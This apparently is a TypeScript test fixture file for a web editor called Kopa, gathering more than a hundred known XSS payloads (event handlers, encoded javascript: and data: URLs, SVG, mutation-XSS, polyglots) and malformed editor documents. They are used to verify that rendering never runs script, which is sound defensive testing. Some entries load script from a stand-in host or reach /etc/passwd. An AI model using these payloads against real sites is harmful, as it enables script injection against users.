/**
 * The XSS payload set of issue 7, in one place so that every channel tests the same
 * strings: @kopa/render's unit tests, and the end-to-end tests that enter them through
 * the editor, paste, a backup import and raw Yjs writes, then open the exported site
 * and the showcase in chromium and count script executions (there must be none).
 *
 * Sources: the OWASP XSS Filter Evasion Cheat Sheet, PortSwigger's XSS cheat sheet,
 * the mutation-XSS vectors behind DOMPurify's and sanitize-html's advisories, the
 * 0xsobky polyglot, and JSON-LD / Markdown specifics. Every payload that runs would
 * call `alert` (or `confirm`/`print`), which a test catches as a dialog, and most also
 * set `window.__kopaXss` so a test can check without dialogs.
 *
 * Nothing here imports anything: any test project can use it.
 */

export interface XssPayload {
  /** Stable and unique: tests report failures by it. */
  id: string;
  /** Where the trick lives. */
  kind: 'html' | 'url' | 'svg' | 'mxss' | 'css' | 'json-ld' | 'markdown' | 'polyglot';
  /** The string itself, to be typed, pasted, imported or written as it is. */
  value: string;
}

/** Markup and text: for text nodes, pasted HTML, alt texts, link titles, titles, names, board notes. */
export const XSS_STRINGS: readonly XssPayload[] = [
  // Plain script and event handlers
  { id: 'script-tag', kind: 'html', value: '<script>alert(1)</script>' },
  { id: 'script-upper-src', kind: 'html', value: '<SCRIPT SRC=//evil.invalid/xss.js></SCRIPT>' },
  { id: 'script-split', kind: 'html', value: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { id: 'script-double-open', kind: 'html', value: '<<script>alert(1);//<</script>' },
  { id: 'img-onerror', kind: 'html', value: '<img src=x onerror=alert(1)>' },
  { id: 'img-onerror-quoted', kind: 'html', value: '<img src="x" onerror="window.__kopaXss=1;alert(1)"/>' },
  { id: 'img-onerror-entities', kind: 'html', value: '<img src=x onerror=alert&#40;1&#41;>' },
  { id: 'img-eval-src', kind: 'html', value: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { id: 'img-malformed-quotes', kind: 'html', value: '<IMG """><SCRIPT>alert(1)</SCRIPT>">' },
  { id: 'img-backtick', kind: 'html', value: '<img src=`x` onerror=alert(1)>' },
  { id: 'attribute-breakout-double', kind: 'html', value: '"><script>alert(1)</script>' },
  { id: 'attribute-breakout-single', kind: 'html', value: "'><img src=x onerror=alert(1)>" },
  { id: 'svg-onload', kind: 'svg', value: '<svg onload=alert(1)>' },
  { id: 'svg-slash-onload', kind: 'svg', value: '<svg/onload=alert(1)>' },
  { id: 'body-onload', kind: 'html', value: '<body onload=alert(1)>' },
  { id: 'input-autofocus', kind: 'html', value: '<input onfocus=alert(1) autofocus>' },
  { id: 'details-ontoggle', kind: 'html', value: '<details open ontoggle=alert(1)>' },
  { id: 'marquee-onstart', kind: 'html', value: '<marquee onstart=alert(1)>x</marquee>' },
  { id: 'video-source-onerror', kind: 'html', value: '<video><source onerror="alert(1)"></video>' },
  { id: 'audio-onerror', kind: 'html', value: '<audio src=x onerror=alert(1)>' },
  { id: 'div-onmouseover', kind: 'html', value: '<div data-x="1" onmouseover="alert(1)">hover</div>' },
  { id: 'link-onclick', kind: 'html', value: '<a href="https://example.org" onclick="alert(1)">ok</a>' },
  { id: 'isindex', kind: 'html', value: '<isindex type=image src=1 onerror=alert(1)>' },
  // javascript:, data: and vbscript: URLs in markup, in various encodings
  { id: 'a-javascript', kind: 'url', value: '<a href="javascript:alert(1)">click</a>' },
  { id: 'a-javascript-mixed-case', kind: 'url', value: '<a href="JaVaScRiPt:alert(1)">click</a>' },
  { id: 'a-javascript-space', kind: 'url', value: '<a href=" javascript:alert(1)">click</a>' },
  { id: 'a-javascript-tab-entity', kind: 'url', value: '<a href="jav&#x09;ascript:alert(1)">click</a>' },
  { id: 'a-javascript-newline-entity', kind: 'url', value: '<a href="jav&#x0A;ascript:alert(1)">click</a>' },
  { id: 'a-javascript-cr-entity', kind: 'url', value: '<a href="java&#x0D;script:alert(1)">click</a>' },
  { id: 'a-javascript-colon-entity', kind: 'url', value: '<a href="javascript&colon;alert(1)">click</a>' },
  { id: 'a-javascript-decimal-colon', kind: 'url', value: '<a href="javascript&#58;alert(1)">click</a>' },
  { id: 'a-javascript-hex-j', kind: 'url', value: '<a href="&#x6A;avascript:alert(1)">click</a>' },
  { id: 'a-javascript-control', kind: 'url', value: '<a href="\u0001javascript:alert(1)">click</a>' },
  { id: 'a-javascript-nul', kind: 'url', value: '<a href="java\u0000script:alert(1)">click</a>' },
  { id: 'a-javascript-comment', kind: 'url', value: '<a href="javascript://%0aalert(1)">click</a>' },
  { id: 'a-vbscript', kind: 'url', value: '<a href="vbscript:msgbox(1)">click</a>' },
  { id: 'a-data-html', kind: 'url', value: '<a href="data:text/html,<script>alert(1)</script>">click</a>' },
  { id: 'a-data-base64', kind: 'url', value: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>' },
  { id: 'img-javascript-mixed-case', kind: 'url', value: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { id: 'img-javascript-fromcharcode', kind: 'url', value: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>' },
  {
    id: 'img-decimal-entities',
    kind: 'url',
    value: '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  },
  {
    id: 'img-zero-padded-entities',
    kind: 'url',
    value:
      '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  },
  { id: 'img-hex-entities', kind: 'url', value: '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>' },
  { id: 'img-javascript-tab', kind: 'url', value: '<IMG SRC="jav\tascript:alert(1);">' },
  { id: 'img-javascript-leading-entity', kind: 'url', value: '<IMG SRC=" &#14;  javascript:alert(1);">' },
  { id: 'img-srcset-javascript', kind: 'url', value: '<img srcset="javascript:alert(1) 1x, x.png 2x">' },
  { id: 'iframe-javascript', kind: 'url', value: '<iframe src="javascript:alert(1)"></iframe>' },
  { id: 'iframe-data', kind: 'url', value: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>' },
  { id: 'iframe-srcdoc', kind: 'html', value: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { id: 'iframe-srcdoc-entities', kind: 'html', value: '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>' },
  { id: 'object-javascript', kind: 'url', value: '<object data="javascript:alert(1)"></object>' },
  { id: 'object-scriptlet', kind: 'url', value: '<object type="text/x-scriptlet" data="//evil.invalid/x.sct"></object>' },
  { id: 'embed-data', kind: 'url', value: '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">' },
  { id: 'form-action', kind: 'url', value: '<form action="javascript:alert(1)"><button>send</button></form>' },
  { id: 'button-formaction', kind: 'url', value: '<button formaction="javascript:alert(1)">send</button>' },
  { id: 'meta-refresh', kind: 'url', value: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { id: 'base-href', kind: 'url', value: '<base href="javascript:alert(1)//">' },
  { id: 'link-stylesheet', kind: 'url', value: '<link rel=stylesheet href="javascript:alert(1)">' },
  // SVG
  { id: 'svg-script', kind: 'svg', value: '<svg><script>alert(1)</script></svg>' },
  { id: 'svg-script-href', kind: 'svg', value: '<svg><script href="data:,alert(1)"/></svg>' },
  { id: 'svg-animate-onbegin', kind: 'svg', value: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  { id: 'svg-animate-href', kind: 'svg', value: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>' },
  { id: 'svg-set-href', kind: 'svg', value: '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text x=20 y=20>Click</text></a></svg>' },
  { id: 'svg-a-xlink', kind: 'svg', value: '<svg><a xlink:href="javascript:alert(1)"><rect width="100" height="100"/></a></svg>' },
  { id: 'svg-image-href', kind: 'svg', value: '<svg><image href="javascript:alert(1)"/></svg>' },
  { id: 'svg-image-xlink', kind: 'svg', value: '<svg><image xlink:href="javascript:alert(1)"/></svg>' },
  {
    id: 'svg-use-data',
    kind: 'svg',
    value:
      '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/></svg>',
  },
  { id: 'svg-foreignobject', kind: 'svg', value: '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>' },
  { id: 'svg-style-img', kind: 'svg', value: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { id: 'svg-rect-paint-url', kind: 'svg', value: '<svg><rect width="9" height="9" fill="url(javascript:alert(1))"/></svg>' },
  // Mutation XSS: markup that changes meaning when parsed again
  { id: 'mxss-noscript-title', kind: 'mxss', value: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { id: 'mxss-svg-p-style', kind: 'mxss', value: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  { id: 'mxss-math-mglyph-style', kind: 'mxss', value: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { id: 'mxss-math-textarea', kind: 'mxss', value: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">' },
  { id: 'mxss-form-math', kind: 'mxss', value: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
  { id: 'mxss-xmp', kind: 'mxss', value: '<xmp><img src=x onerror=alert(1)></xmp>' },
  { id: 'mxss-textarea', kind: 'mxss', value: '<textarea><img src=x onerror=alert(1)></textarea>' },
  { id: 'mxss-title', kind: 'mxss', value: '<title><img src=x onerror=alert(1)></title>' },
  { id: 'mxss-template', kind: 'mxss', value: '<template><img src=x onerror=alert(1)></template>' },
  { id: 'mxss-comment', kind: 'mxss', value: '<!--<img src=x onerror=alert(1)>-->' },
  { id: 'mxss-comment-short', kind: 'mxss', value: '<!--><img src=x onerror=alert(1)>-->' },
  { id: 'mxss-cdata', kind: 'mxss', value: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
  { id: 'mxss-plaintext', kind: 'mxss', value: '<plaintext><img src=x onerror=alert(1)>' },
  { id: 'mxss-noembed', kind: 'mxss', value: '<noembed><img title="</noembed><img src=x onerror=alert(1)>">' },
  { id: 'mxss-select-style', kind: 'mxss', value: '<select><style></select><img src=x onerror=alert(1)></style>' },
  // CSS
  { id: 'style-url-javascript', kind: 'css', value: '<div style="background-image: url(javascript:alert(1))">x</div>' },
  { id: 'style-expression', kind: 'css', value: '<div style="width: expression(alert(1))">x</div>' },
  { id: 'style-import', kind: 'css', value: "<style>@import 'javascript:alert(1)';</style>" },
  { id: 'style-element-url', kind: 'css', value: '<style>body{background:url("javascript:alert(1)")}</style>' },
  { id: 'style-moz-binding', kind: 'css', value: '<div style="-moz-binding:url(//evil.invalid/xss.xml#xss)">x</div>' },
  // JSON-LD and <script> data blocks
  { id: 'json-ld-close-script', kind: 'json-ld', value: '</script><script>alert(1)</script>' },
  { id: 'json-ld-close-script-upper', kind: 'json-ld', value: '</SCRIPT ><script>alert(1)</script>' },
  { id: 'json-ld-comment-open', kind: 'json-ld', value: '<!--<script>alert(1)</script>' },
  { id: 'json-ld-line-separators', kind: 'json-ld', value: 'a\u2028b\u2029c"};alert(1);//' },
  { id: 'json-ld-in-html', kind: 'json-ld', value: '<script type="application/ld+json">{"x":"</script><script>alert(1)</script>"}</script>' },
  // Markdown: links and raw HTML a Markdown reader would honour
  { id: 'md-link-javascript', kind: 'markdown', value: '[click](javascript:alert(1))' },
  { id: 'md-image-javascript', kind: 'markdown', value: '![x](javascript:alert(1))' },
  { id: 'md-autolink-javascript', kind: 'markdown', value: '<javascript:alert(1)>' },
  { id: 'md-reference-javascript', kind: 'markdown', value: '[click][x]\n\n[x]: javascript:alert(1)' },
  { id: 'md-data-link', kind: 'markdown', value: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { id: 'md-raw-html-block', kind: 'markdown', value: '<div>\n<img src=x onerror=alert(1)>\n</div>' },
  // Polyglot
  {
    id: 'polyglot-0xsobky',
    kind: 'polyglot',
    value:
      "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
  },
  { id: 'polyglot-title-close', kind: 'polyglot', value: '</title></style></textarea></script></xmp><svg/onload=alert(1)>' },
];

/** URLs: for link URLs in documents, images' URL functions, metadata URLs. None may reach output as a working scheme. */
export const XSS_URLS: readonly XssPayload[] = [
  { id: 'url-javascript', kind: 'url', value: 'javascript:alert(1)' },
  { id: 'url-javascript-upper', kind: 'url', value: 'JAVASCRIPT:alert(1)' },
  { id: 'url-javascript-mixed', kind: 'url', value: 'jAvAsCrIpT:alert(1)' },
  { id: 'url-javascript-leading-space', kind: 'url', value: ' javascript:alert(1)' },
  { id: 'url-javascript-leading-tab', kind: 'url', value: '\tjavascript:alert(1)' },
  { id: 'url-javascript-inner-tab', kind: 'url', value: 'java\tscript:alert(1)' },
  { id: 'url-javascript-inner-newline', kind: 'url', value: 'java\nscript:alert(1)' },
  { id: 'url-javascript-inner-cr', kind: 'url', value: 'java\rscript:alert(1)' },
  { id: 'url-javascript-leading-control', kind: 'url', value: '\u0001javascript:alert(1)' },
  { id: 'url-javascript-leading-nul', kind: 'url', value: '\u0000javascript:alert(1)' },
  { id: 'url-javascript-inner-nul', kind: 'url', value: 'java\u0000script:alert(1)' },
  { id: 'url-javascript-colon-entity', kind: 'url', value: 'javascript&colon;alert(1)' },
  { id: 'url-javascript-hex-entity', kind: 'url', value: '&#x6A;avascript:alert(1)' },
  { id: 'url-javascript-decimal-entity', kind: 'url', value: '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)' },
  { id: 'url-javascript-percent', kind: 'url', value: 'javascript:alert%281%29' },
  { id: 'url-javascript-comment-newline', kind: 'url', value: 'javascript://%0aalert(1)' },
  { id: 'url-vbscript', kind: 'url', value: 'vbscript:msgbox(1)' },
  { id: 'url-vbscript-mixed', kind: 'url', value: 'VBScript:msgbox(1)' },
  { id: 'url-livescript', kind: 'url', value: 'livescript:alert(1)' },
  { id: 'url-data-html', kind: 'url', value: 'data:text/html,<script>alert(1)</script>' },
  { id: 'url-data-base64', kind: 'url', value: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
  { id: 'url-data-svg-upper', kind: 'url', value: 'DATA:image/svg+xml,<svg onload=alert(1)>' },
  { id: 'url-data-leading-space', kind: 'url', value: ' data:text/html,<script>alert(1)</script>' },
  { id: 'url-file', kind: 'url', value: 'file:///etc/passwd' },
  { id: 'url-protocol-relative', kind: 'url', value: '//evil.invalid/x' },
  { id: 'url-backslashes', kind: 'url', value: '\\\\evil.invalid\\x' },
  { id: 'url-slash-backslash', kind: 'url', value: '/\\evil.invalid' },
  { id: 'url-attribute-breakout', kind: 'url', value: 'https://example.org/" onmouseover="alert(1)' },
  { id: 'url-markup-in-path', kind: 'url', value: 'https://example.org/<script>alert(1)</script>' },
  {
    id: 'url-polyglot',
    kind: 'polyglot',
    value: "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  },
];

/** Every payload string, markup and URLs together (for fields that take any text). */
export const XSS_PAYLOADS: readonly XssPayload[] = [...XSS_STRINGS, ...XSS_URLS];

/** A Lexical text node (format 0: plain). */
const text = (value: string, format = 0) => ({ type: 'text', version: 1, text: value, format, detail: 0, mode: 'normal', style: '' });

const paragraph = (children: unknown[]) => ({ type: 'paragraph', version: 1, direction: 'ltr', format: '', indent: 0, textFormat: 0, textStyle: '', children });

const root = (children: unknown[]) => ({ root: { type: 'root', version: 1, direction: 'ltr', format: '', indent: 0, children } });

/**
 * A document, in serialized Lexical JSON, that carries every payload where a writer
 * could put it with Kopa's own editor: as text (plain and formatted), as link titles,
 * link URLs (links the editor would refuse, as a crafted client writes them), picture
 * descriptions. Its text must come out as text, its links dropped or kept only when safe.
 */
export function xssDocument(): { root: unknown } {
  const blocks: unknown[] = [];
  for (const payload of XSS_PAYLOADS) {
    blocks.push(paragraph([text(payload.value)]));
    blocks.push({ type: 'heading', version: 1, tag: 'h2', direction: 'ltr', format: '', indent: 0, children: [text(payload.value, 1)] });
    blocks.push(
      paragraph([
        {
          type: 'link',
          version: 1,
          url: payload.value,
          title: payload.value,
          rel: payload.value,
          target: payload.value,
          direction: 'ltr',
          format: '',
          indent: 0,
          children: [text(`link ${payload.id}`)],
        },
      ]),
    );
    blocks.push({ type: 'image', version: 1, uploadId: '6f1a2b3c-0000-4000-8000-000000000001', altText: payload.value, width: 640, height: 480 });
  }
  return root(blocks);
}

/**
 * Lexical JSON nobody's editor writes: unknown node types (an `html` node with raw
 * markup, a `script` node), fields of the wrong kind or with markup in them, broken
 * shapes, extreme nesting. Each renders to safe output (or nothing) without throwing.
 */
export const XSS_LEXICAL_DOCUMENTS: readonly { id: string; content: unknown }[] = [
  { id: 'html-node', content: root([{ type: 'html', version: 1, html: '<script>alert(1)</script><img src=x onerror=alert(1)>' }]) },
  { id: 'html-node-with-children', content: root([{ type: 'html', html: '<script>alert(1)</script>', children: [text('<img src=x onerror=alert(1)>')] }]) },
  { id: 'script-node', content: root([{ type: 'script', text: 'alert(1)', src: 'javascript:alert(1)', children: [text('alert(1)')] }]) },
  { id: 'iframe-node', content: root([{ type: 'iframe', src: 'javascript:alert(1)', srcdoc: '<script>alert(1)</script>' }]) },
  { id: 'code-node', content: root([{ type: 'code', language: '"><script>alert(1)</script>', children: [text('<script>alert(1)</script>')] }]) },
  { id: 'heading-tag-script', content: root([{ type: 'heading', tag: 'script', children: [text('alert(1)')] }]) },
  { id: 'heading-tag-attribute', content: root([{ type: 'heading', tag: 'h1 onclick=alert(1)', children: [text('x')] }]) },
  { id: 'list-type-markup', content: root([{ type: 'list', listType: '"><script>alert(1)</script>', tag: 'script', start: '1" onclick="alert(1)', children: [{ type: 'listitem', value: '1" onclick="alert(1)', checked: 'yes', children: [text('item')] }] }]) },
  { id: 'paragraph-attributes', content: root([{ type: 'paragraph', format: 'center" onclick="alert(1)', direction: 'rtl" onclick="alert(1)', style: 'background:url(javascript:alert(1))', textStyle: 'x:expression(alert(1))', children: [text('styled')] }]) },
  { id: 'text-style', content: root([paragraph([{ ...text('styled'), style: 'color:red;background:url(javascript:alert(1))' }])]) },
  { id: 'text-format-wrong-kind', content: root([paragraph([{ ...text('<b>x</b>'), format: 'bold" onclick="alert(1)' }, { ...text('big'), format: 2 ** 53 }, { ...text('neg'), format: -1 }])]) },
  { id: 'text-not-a-string', content: root([paragraph([{ type: 'text', text: { toString: '<script>alert(1)</script>' } }, { type: 'text', text: 42 }])]) },
  { id: 'link-javascript', content: root([paragraph([{ type: 'link', url: 'javascript:alert(1)', children: [text('click')] }])]) },
  { id: 'autolink-data', content: root([paragraph([{ type: 'autolink', url: 'data:text/html,<script>alert(1)</script>', children: [text('click')] }])]) },
  { id: 'link-url-not-string', content: root([paragraph([{ type: 'link', url: ['javascript:alert(1)'], children: [text('click')] }])]) },
  { id: 'link-attributes', content: root([paragraph([{ type: 'link', url: 'https://example.org', title: '"><img src=x onerror=alert(1)>', target: '_blank" onclick="alert(1)', rel: 'x" onclick="alert(1)', children: [text('ok')] }])]) },
  { id: 'nested-links', content: root([paragraph([{ type: 'link', url: 'https://example.org/a', children: [{ type: 'link', url: 'javascript:alert(1)', children: [text('inner')] }] }])]) },
  { id: 'image-upload-id-markup', content: root([{ type: 'image', uploadId: '"><script>alert(1)</script>', altText: 'x', width: 640, height: 480 }]) },
  { id: 'image-upload-id-javascript', content: root([{ type: 'image', uploadId: 'javascript:alert(1)', altText: 'x', width: 640, height: 480 }]) },
  { id: 'image-upload-id-path', content: root([{ type: 'image', uploadId: '../../etc/passwd', altText: 'x', width: 640, height: 480 }]) },
  { id: 'image-size-markup', content: root([{ type: 'image', uploadId: 'u1', altText: '<script>alert(1)</script>', width: '100" onerror="alert(1)', height: Number.NaN }]) },
  { id: 'image-alt-markup', content: root([{ type: 'image', uploadId: 'u1', altText: '"><img src=x onerror=alert(1)>', width: 640, height: 480, src: 'javascript:alert(1)', onerror: 'alert(1)' }]) },
  { id: 'inline-image-in-link', content: root([paragraph([{ type: 'link', url: 'javascript:alert(1)', children: [{ type: 'image', uploadId: 'u1', altText: 'x', width: 640, height: 480 }] }])]) },
  { id: 'root-children-not-array', content: { root: { type: 'root', children: '<script>alert(1)</script>' } } },
  { id: 'children-of-wrong-kinds', content: root([null, 42, '<script>alert(1)</script>', [], { type: 7 }, { noType: true }, paragraph([null, '<img src=x onerror=alert(1)>', text('kept')])]) },
  { id: 'not-a-root', content: { root: { type: 'html', html: '<script>alert(1)</script>' } } },
  { id: 'proto-keys', content: JSON.parse('{"root":{"type":"root","__proto__":{"polluted":"<script>alert(1)</script>"},"children":[{"type":"paragraph","constructor":{"prototype":{"x":1}},"children":[{"type":"text","text":"proto"}]}]}}') },
  { id: 'deep-nesting', content: root([deepQuote(5000)]) },
  { id: 'deep-lists', content: root([deepList(3000)]) },
  { id: 'null', content: null },
  { id: 'string', content: '<script>alert(1)</script>' },
];

function deepQuote(depth: number): unknown {
  let node: unknown = text('<img src=x onerror=alert(1)> deep');
  for (let i = 0; i < depth; i += 1) node = { type: i % 2 === 0 ? 'unknown-wrapper' : 'quote', children: [node] };
  return node;
}

function deepList(depth: number): unknown {
  let node: unknown = { type: 'listitem', children: [text('<script>alert(1)</script> deepest')] };
  for (let i = 0; i < depth; i += 1) node = { type: 'listitem', children: [{ type: 'list', listType: 'bullet', children: [node] }] };
  return { type: 'list', listType: 'bullet', children: [node] };
}
